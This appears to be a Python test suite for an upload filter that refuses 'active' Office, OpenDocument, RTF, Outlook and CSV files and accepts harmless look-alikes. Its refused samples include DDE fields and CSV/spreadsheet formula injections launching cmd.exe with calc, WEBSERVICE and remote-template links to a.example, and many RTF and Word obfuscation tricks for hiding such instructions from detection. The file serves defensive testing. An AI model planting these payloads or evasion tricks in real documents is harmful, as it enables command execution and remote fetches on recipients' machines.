"""Files that do, fetch or bring something by themselves, of every kind, and their harmless neighbours."""

from __future__ import annotations

import csv
import struct
from itertools import pairwise

import pytest
from compressed_rtf import compress
from hypothesis import given
from hypothesis import strategies as st

from tests.web.files.sample_files import compound, message, office_document, package, relationship, word
from web.files.contents import check_content
from web.runtime.refused_files import OfTheFile

INTERNAL = ""
XLINK = "xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:draw='draw' xmlns:text='text' xmlns:table='table'"
W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
R = "xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' xmlns:v='vml'"
HTML, EVIL_RTF = "<html><script>1</script></html>", "{\\rtf1{\\object\\objdata 01}}"


def open_document(content: str = "<a/>", more: dict[str, str | bytes] | None = None, kind: str = "text") -> bytes:
    """An OpenDocument with this within its text."""
    text = f"<office {XLINK}>{content}</office>"
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    return package({"mimetype": mimetype, "content.xml": text, **(more or {})})


def link(name: str, address: str, actuate: str = "onLoad") -> str:
    return f"<{name} xlink:href='{address}' xlink:actuate='{actuate}'/>"


def rtf(field: str) -> bytes:
    """Rich text with a field of that instruction, as the format spells it."""
    return b"{\\rtf1\\ansi{\\field{\\*\\fldinst " + field.encode() + b"}{\\fldrslt x}}}"


def pieces(*texts: str) -> bytes:
    """A document of Word whose text is in pieces, in another order than they stand in the file."""
    document = bytearray(b"\xec\xa5\xc1" + b"\0" * 1021)
    places = [0] * len(texts)
    for number in reversed(range(len(texts))):
        places[number] = len(document)
        document += texts[number].encode("utf-16-le")
    ends = [sum(map(len, texts[:number])) for number in range(len(texts) + 1)]
    told = struct.pack(f"<{len(ends)}I", *ends) + b"".join(struct.pack("<HIH", 0, place, 0) for place in places)
    table = b"\x02" + struct.pack("<I", len(told)) + told
    struct.pack_into("<II", document, 0x1A2, 0, len(table))
    return compound({"WordDocument": bytes(document), "0Table": table})


def word_names(*names: str) -> bytes:
    """A document of Word with the names of other files: nothing, template, title …"""
    table = struct.pack("<HHH", 0xFFFF, len(names), 0)
    table += b"".join(struct.pack("<H", len(each)) + each.encode("utf-16-le") for each in names)
    document = bytearray(b"\xec\xa5\xc1" + b"\0" * 1021)
    struct.pack_into("<II", document, 0x19A, 0, len(table))
    return compound({"WordDocument": bytes(document), "0Table": table})


def word_text(text: str, coding: str = "cp1252") -> bytes:
    return compound({"WordDocument": b"\xec\xa5" + b"\0" * 510 + text.encode(coding)})


def body(text: bytes) -> bytes:
    return message(more={"__substg1.0_10090102": compress(text)})


def words(content: str, folder: str = "word") -> bytes:
    """A document of Word with this within a part."""
    return office_document(folder, {f"{folder}/a.xml": f"<w:p {W} {R}>{content}</w:p>"})


def sheet(formula: str) -> bytes:
    return office_document("xl", {"xl/worksheets/sheet1.xml": f"<sheet><c><f>{formula}</f></c></sheet>"})


ATTACH = "__attach_version1.0_#00000000"
DDE, PICTURE = '\x13 DDEAUTO c:\\\\cmd.exe "/k calc.exe" \x14x\x15', '\x13INCLUDEPICTURE "http://a.example/x"\x14\x15'

REFUSED = {
    "a DDE field.doc": word_text(DDE),
    "a wide DDE field.doc": word_text(DDE, "utf-16-le"),
    "an unevenly wide DDE field.doc": word_text("\0" + DDE, "utf-16-be"),
    "a DDE field in pieces.doc": pieces("A \x13 DD", "EAUTO cmd \x14x\x15"),
    "a field in a field.doc": pieces("A \x13D\x13QUOTE 68 69\x14DE\x15 cmd \x14x\x15"),
    "a picture of elsewhere.doc": word_text(PICTURE),
    "a template of elsewhere.doc": word_names("", "\\\\a.example\\t.dot"),
    "data of elsewhere.doc": word_names("", "Normal", *[""] * 6, "http://a.example/x"),
    "a control.doc": word({"ObjectPool/_1/CONTENTS": b"x"}),
    "an equation.doc": word({"ObjectPool/_1/Equation Native": b"x"}),
    "a workbook.doc": word({"ObjectPool/_1/Workbook": b"x"}),
    "a workbook elsewhere.doc": word({"Data/_1/Workbook": b"x"}),
    "an unknown object.doc": word({"ObjectPool/_1/whatever": b"x"}),
    "a file of a share.msg": message(more={f"{ATTACH}/__substg1.0_370D001F": "\\\\a.example\\x".encode("utf-16-le")}),
    "a sound of a share.msg": message(more={"__substg1.0_8002001F": "\\\\a.example\\x.wav".encode("utf-16-le")}),
    "a narrow sound of a share.msg": message(more={"__substg1.0_8002001E": b"//a.example/x.wav"}),
    "an object.msg": message(more={f"{ATTACH}/__substg1.0_3701000D/CONTENTS": b"x"}),
    "an object in the body.msg": body(EVIL_RTF.encode()),
    "altChunk of rich text.docx": office_document(
        "word", {"word/evil.rtf": EVIL_RTF, "word/_rels/a.rels": relationship("aFChunk", "evil.rtf", INTERNAL)}
    ),
    "altChunk of a page.docx": office_document("word", {"word/x.html": HTML}),
    "altChunk of another page.docx": office_document("word", {"word/x.dat": "<?xml version='1.0'?><HTML/>"}),
    "altChunk of text.docx": office_document(
        "word", {"word/x.txt": "x", "word/_rels/a.rels": relationship("aFChunk", "x.txt", INTERNAL)}
    ),
    "altChunk of an old one.docx": office_document("word", {"word/x.dat": word()}),
    "an archived page.docx": office_document("word", {"word/x.dat": "MIME-Version: 1.0\r\n"}),
    "an object elsewhere.docx": office_document("word", {"word/media/x.bin": compound({"x": b""})}),
    "an object by its relation.pptx": office_document(
        "ppt", {"ppt/media/x.bin": "x", "ppt/slides/_rels/a.rels": relationship("oleObject", "../x.bin", INTERNAL)}
    ),
    "a control by its relation.docx": office_document(
        "word", {"word/x.xml": "<a/>", "word/_rels/a.rels": relationship("control", "x.xml", INTERNAL)}
    ),
    "an address without a mode.docx": office_document(
        "word", {"word/_rels/a.rels": relationship("image", "http://a.example/x.png", INTERNAL)}
    ),
    "a program.docx": office_document("word", {"word/media/x.png": b"MZ\x90"}),
    "an archive.docx": office_document("word", {"word/media/x.png": package({"a.exe": "MZ"})}),
    "macros in a part.docx": office_document(
        "word", {"word/media/x.png": office_document("word", {"word/vbaProject.bin": ""})}
    ),
    "merged data.docx": words("<w:connectString w:val='a'/>"),
    "fields around.docx": words("<w:fldSimple w:instr='D'><w:fldSimple w:instr='QUOTE 68 69'/></w:fldSimple>"),
    "a field in a simple one.docx": words("<w:fldSimple w:instr='DD'><w:instrText>E c</w:instrText></w:fldSimple>"),
    "a picture of elsewhere.docx": words("<v:imagedata src='http://a.example/x'/>"),
    "a linked picture.pptx": words("<blip r:link='rId1'/>", "ppt"),
    "data fetched at once.xlsx": office_document(
        "xl", {"xl/connections.xml": "<connections><connection id='1' refreshOnLoad='1'/></connections>"}
    ),
    "a DDE formula.xlsx": sheet("cmd|'/c calc'!A0"),
    "a hidden DDE formula.xlsx": sheet("cmd&#124;'/c calc'!A0"),
    "a web formula.xlsx": sheet('_xlfn.WEB<!-- x -->SERVICE("http://a.example/"&amp;A1)'),
    "a web name.xlsx": office_document(
        "xl", {"xl/workbook.xml": '<x><definedName>WEBSERVICE("http://a")</definedName></x>'}
    ),
    "a picture.odt": open_document(link("draw:image", "http://a.example/x.png")),
    "a picture of a share.odt": open_document(link("draw:image", "file://a.example/x.png")),
    "another picture of a share.odt": open_document(link("draw:image", "file:////a.example/x.png")),
    "an object.odt": open_document(link("draw:object-ole", "//a.example/x")),
    "a section.odt": open_document(link("text:section-source", "http://a.example/x.odt", "")),
    "a frame.odt": open_document(link("draw:floating-frame", "https://a.example/")),
    "an applet.odt": open_document(link("draw:applet", "https://a.example/")),
    "a plugin.odt": open_document(link("draw:plugin", "https://a.example/")),
    "a followed link.odt": open_document(link("text:a", "https://a.example/", "onLoad")),
    "a template.odt": open_document(link("text:template", "http://a.example/t.ott", "onRequest")),
    "a table.ods": open_document(link("table:table-source", "http://a.example/x.ods"), kind="spreadsheet"),
    "a DDE formula.ods": open_document("<c table:formula='of:=DDE(&quot;a&quot;)'/>", kind="spreadsheet"),
    "a web formula.ods": open_document("<c table:formula='of:=WEBSERVICE([.A1])'/>", kind="spreadsheet"),
    "a macro.odt": open_document(link("text:a", "macro:///Standard.Module1.x")),
    "a run program.odt": open_document("<x action='execute'/>"),
    "an object of any name.odt": open_document(more={"Pictures/x.png": compound({"x": b""})}),
    "a program.odt": open_document(more={"Pictures/x.png": b"\x7fELF"}),
    "a script.odt": open_document(more={"x": b"#!/bin/sh"}),
    "a name apart.rtf": rtf('"DDE" c'),
    "a word apart.rtf": rtf('INCLUDE{}PICTURE "http://a.example/x"'),
    "a share.rtf": rtf('LINK Excel.Sheet.8 "//a/x"'),
    "a blank before.rtf": rtf("\\~DDE c"),
    "a letter by number.rtf": rtf("\\u0068 ?DE c"),
    "more stand-ins.rtf": rtf("\\uc2\\u68 ??DE c"),
    "no stand-in.rtf": rtf("\\uc0\\u68 DE c"),
    "bytes between.rtf": rtf("D\\bin1 XDE c"),
    "an escape.rtf": rtf('INCLUDEPICTUR\\\'45 "http://a.example/x"'),
    "an escaped address.rtf": rtf("INCLUDEPICTURE \"http\\'3a\\'2f\\'2fa.example/x\""),
    "an import.rtf": rtf('IMPORT "http://a.example/x"'),
    "fields in fields.rtf": rtf("{\\field{\\*\\fldinst QUOTE 68 68 69}{\\fldrslt DDE}} c"),
    "a hidden letter.rtf": rtf("D{\\*\\unknown x}DE c"),
    "a second instruction.rtf": b"{\\rtf1{\\field{\\*\\fldinst PAGE}{\\*\\fldinst DDE c}}}",
    "an instruction alone.rtf": b"{\\rtf1{\\*\\fldinst PAGE}{\\*\\fldinst DDE c}}",
    "an end that is missing.rtf": b"{\\rtf1{\\field{\\*\\fldinst DDE c",
    "a broken word.rtf": b"{\\rtf1{\\*\\templa\nte http://a.example/t}}",
    "a broken field.rtf": b"{\\rtf1{\\field{\\*\\fldi\r\nnst DDE c}}}",
    "a template.rtf": b"{\\rtf1{\\*\\template x.dot}}",
    "an object.rtf": b"{\\rtf1{\\object x}}",
    "objdata.rtf": b"{\\rtf1{\\*\\objdata\n 01}}",
    "objupdate.rtf": b"{\\rtf1{\\objupdate}}",
    "a linked shape.rtf": b"{\\rtf1{\\shp{\\sp{\\sn pibName}{\\sv http://a.example/x}}}}",
    "a formula of two lines.csv": b"a\n\"=cmd|'/c\ncalc'!A0\"\n",
    "a blank before.csv": "a,\u00a0=cmd|'/c calc'!A0".encode(),
    "something unseen before.csv": "a;\u200b\u2060=cmd|'/c calc'!A0".encode(),
    "a quoted one.csv": b'"\t=cmd|\'/c ""calc""\'!A0"',
    "a DDE function.csv": b'a,=DDE("a";"b";"c")',
    "a web formula.csv": b'a,"=WEBSERVICE(""http://a.example"")"',
}

IF_FIELD = '{IF 1 = 1 {\\field{\\*\\fldinst MERGEFIELD head}{\\fldrslt Jo}} ""}'

TAKEN = {
    "fields.doc": pieces(
        'A \x13HYPERLINK "http://a.example"\x14a\x15',
        "\x13 TOC \\o \x14\x13PAGEREF _Toc1\x141\x15\x15 ",
        '\x13 IF \x13PAGE\x141\x15 = 1 "a" "b"\x14a\x15 \x13=1+1\x142\x15',
        '\x13INCLUDEPICTURE "C:\\\\crest.png"\x14\x15 DDEAUTO',
    ),
    "its template.doc": word_names("", "Normal.dot", "http://a.example is its title"),
    "empty pool.doc": word({"\x01CompObj": b"x", "MsoDataStore/_1/Item": b"x"}),
    "of properties.msg": message(None, {"__substg1.0_1000001F": "\\\\share has it".encode("utf-16-le")}),
    "a message within.msg": message(
        more={f"{ATTACH}/__substg1.0_3701000D/{each}": b"" for each in ("__properties_version1.0", "__nameid")}
    ),
    "with a form.msg": body(b'{\\rtf1\\fromhtml1{\\*\\htmltag <img src="cid:1">}{\\objattph  }\\par Dear all}'),
    "links.docx": office_document("word", {"word/_rels/a.rels": relationship("hyperlink", "http://a.example")}),
    "a picture.docx": office_document(
        "word",
        {
            "word/media/a.png": b"\x89PNG |",
            "word/media/a.svg": "<!DOCTYPE svg><svg><!-- | --></svg>",
            "word/_rels/a.rels": relationship("image", "media/a.png", INTERNAL),
            "word/a.xml": f"<x {R}><blip r:embed='r1'/><v:imagedata src='media/a.png'/></x>",
        },
    ),
    "a chart.docx": office_document(
        "word",
        {
            "word/embeddings/Microsoft_Excel_Sheet.xlsx": office_document("xl"),
            "word/charts/_rels/chart1.xml.rels": relationship("package", "../embeddings/a.xlsx", INTERNAL),
        },
    ),
    "sums.xlsx": sheet('IF(\'A|B\'!C1="a|b!",SUM({1,2;3,4}),HYPERLINK("http://a.example"))&#10;'),
    "links.xlsx": office_document(
        "xl", {"xl/_rels/a.rels": relationship("externalLinkPath", "file:///C:/sums.xlsx"), "xl/printer.bin": b"\0|"}
    ),
    "data.xlsx": office_document("xl", {"xl/connections.xml": "<c><connection id='1' interval='0'/></c>"}),
    "links.odt": open_document(
        link("text:a", "https://a.example/", "onRequest") + link("draw:image", "Pictures/1.png") + link("draw:a", "")
    ),
    "local ones.odt": open_document(
        link("table:table-source", "file:///C:/x.ods") + link("text:template", "../x.ott")
    ),
    "sums.ods": open_document("<c table:formula='of:=SUM({1|2};&quot;DDE(|&quot;)'/>", kind="spreadsheet"),
    "fields.rtf": rtf(IF_FIELD[1:-1]),
    "contents.rtf": rtf('{\\b TOC \\\\o "1-3"}'),
    "a link.rtf": rtf('{\\*\\bkmkstart x}HYPERLINK "http://a.example"'),
    "sums.rtf": rtf("= {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} + 1"),
    "a form.rtf": rtf("FORMTEXT {\\*\\formfield{\\fftype0{\\*\\ffname Text1}}}"),
    "a local picture.rtf": rtf('INCLUDEPICTURE "C:\\\\\\\\crest.png"'),
    "a shape.rtf": b"{\\rtf1{\\sp{\\sn pib}{\\sv {\\pict 8950\n0d0a}}}{\\sp{\\sn pibName}{\\sv C:\\\\a.png}}}",
    "words.rtf": b"{\\rtf1\\ansi The objective: DDE data\\par\nobject\\b\ntemplate http://a.example}",
    "marks.csv": b'name,mark\n-1|2,"a"\n"a\n=b",=1+1\n+44,yes!\nRTD (x)|!',
    "long.csv": b'a,"' + b"x" * 200_000 + b'"\n',
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_file_that_is_active_is_refused(name: str) -> None:
    with pytest.raises(OfTheFile, match=r"Such files are not allowed|with macros are not allowed"):
        check_content(name, REFUSED[name])


@pytest.mark.parametrize("name", TAKEN)
def test_its_harmless_neighbour_is_taken(name: str) -> None:
    check_content(name, TAKEN[name])


INSTRUCTIONS = st.sampled_from(
    [
        "DDE c",
        "DDEAUTO c:\\cmd",
        'INCLUDEPICTURE "http://a/x"',
        'INCLUDETEXT "//a/x"',
        'LINK A.1 "//a/x"',
        'RD "http://a"',
    ]
)
UNSEEN = st.sampled_from(["{}", "\r\n", "{\\b }", "\\b0 ", "\\bin2 {\\", "\\bin0 ", "{\\*\\x y}", "{\\i\n}"])


@st.composite
def spelt(draw: st.DrawFn, letter: str) -> str:
    """A letter of an instruction, as Rich Text Format may write it."""
    plain = {"\\": "\\\\"}.get(letter, letter)
    number = ord(letter)
    written = draw(
        st.sampled_from(
            [
                plain,
                f"\\'{number:02x}",
                f"\\u{number} ?",
                f"\\u{number}\\'3f",
                f"{{\\uc0\\u{number} }}",
                f"{{\\uc2\\u0{number} \\b?}}",
                f"{{\\b {plain}}}",
                f"{{{{{plain}}}}}",
            ]
        )
    )
    return written if draw(st.integers(0, 3)) else draw(UNSEEN) + written


@given(INSTRUCTIONS, st.data())
def test_an_instruction_of_rich_text_is_refused_however_it_is_spelt(instruction: str, data: st.DataObject) -> None:
    written = "".join(data.draw(spelt(letter)) for letter in instruction)
    with pytest.raises(OfTheFile, match="Such files are not allowed"):
        check_content("a.rtf", rtf(written))


@given(INSTRUCTIONS, st.data())
def test_an_instruction_of_word_is_refused_however_it_is_parted(instruction: str, data: st.DataObject) -> None:
    cuts = sorted({0, len(instruction), *data.draw(st.lists(st.integers(0, len(instruction)), max_size=5))})
    parts = [instruction[start:end] for start, end in pairwise(cuts)]
    with pytest.raises(OfTheFile, match="Such files are not allowed"):
        check_content("a.doc", pieces("\x13 ", *parts, "\x14x\x15"))
    runs = "".join(f"<w:r><w:instrText>{part.replace(chr(34), '&quot;')}</w:instrText></w:r>" for part in parts)
    part = f"<w:p {W}><w:fldChar w:fldCharType='begin'/>{runs}<w:fldChar w:fldCharType='end'/></w:p>"
    with pytest.raises(OfTheFile, match="Such files are not allowed"):
        check_content("a.docx", office_document("word", {"word/a.xml": part}))


def test_a_table_with_a_great_cell_leaves_the_limit_of_imports_as_it_was() -> None:
    before = csv.field_size_limit()
    check_content("list.csv", b"name,note\na," + b"x" * 2 * before + b"\n")
    assert csv.field_size_limit() == before
